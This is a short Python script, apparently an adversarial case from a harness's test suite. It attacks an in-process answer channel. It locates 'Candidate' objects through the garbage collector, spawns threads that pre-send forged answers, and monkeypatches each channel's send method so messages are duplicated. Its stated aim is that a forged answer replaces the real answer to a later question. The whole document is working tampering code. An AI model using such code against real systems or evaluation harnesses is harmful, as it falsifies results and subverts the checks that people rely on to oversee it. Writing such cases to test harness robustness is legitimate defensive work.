"""Answer twice, before the question, and from another thread.

Gain: a forged answer stands in for that to a later question.
"""

# Its own words are the attacker's to break: what is asked later may be lost.
AT_MOST = True

# %%
import gc
import threading
import time

candidates = [thing for thing in gc.get_objects() if type(thing).__name__ == "Candidate"]


def chatter(candidate):
    for ahead in range(400):
        time.sleep(0.01)
        answer = [candidate.number + ahead % 3, "ok", 19.5, ""]
        try:
            candidate.channel.send(candidate.encoder.encode(answer), time.monotonic() + 1)
        except Exception:
            pass


for candidate in candidates:
    threading.Thread(target=chatter, args=(candidate,), daemon=True).start()
    send = candidate.channel.send
    candidate.channel.send = lambda parts, deadline, send=send: [send(parts, deadline)] * 2
